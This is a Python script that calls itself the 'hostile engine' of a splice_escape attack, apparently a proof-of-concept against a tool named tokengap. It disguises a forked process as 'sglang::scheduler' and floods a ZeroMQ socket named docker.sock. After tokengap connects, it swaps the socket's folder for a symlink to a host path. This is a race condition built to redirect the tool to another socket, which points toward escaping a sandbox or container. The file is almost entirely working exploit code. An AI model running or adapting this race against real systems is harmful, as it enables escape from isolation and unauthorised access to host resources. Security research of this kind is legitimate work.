"""Hostile engine of splice_escape.sh: its socket is FOLDER/x/docker.sock. When tokengap has read the handshake of that socket, FOLDER/x
becomes a link to HOST, a folder with a socket of this name. splice_escape_engine.py FOLDER HOST"""
import os
import sys
import threading
import time

import setproctitle
import zmq
from zmq.utils.monitor import recv_monitor_message

folder, host = sys.argv[1], sys.argv[2]
os.mkdir(folder + "/x")
endpoint = f"ipc://{folder}/x/docker.sock"
pid = os.fork()
if pid == 0:
    setproctitle.setproctitle("sglang::scheduler")
    sender = zmq.Context().socket(zmq.PUSH)
    sender.connect(endpoint)
    while os.getppid() != 1:
        sender.send(b"x" * 200)
        time.sleep(0.05)
    os._exit(0)
receiver = zmq.Context().socket(zmq.PULL)
monitor = receiver.get_monitor_socket()
receiver.bind(endpoint)
print("PIDS", pid, os.getpid(), flush=True)


def swap():
    accepted = 0
    while accepted < 2:  # The scheduler's connection, then tokengap's, which reads the socket type.
        accepted += recv_monitor_message(monitor)["event"] == zmq.EVENT_ACCEPTED
    time.sleep(0.3)
    os.rename(folder + "/x", folder + "/moved")
    os.symlink(host, folder + "/x")
    print("swapped", flush=True)


threading.Thread(target=swap, daemon=True).start()
poller = zmq.Poller()
poller.register(receiver, zmq.POLLIN)
end = time.time() + 60
while time.time() < end:
    if poller.poll(100):
        receiver.recv()
os.kill(pid, 9)
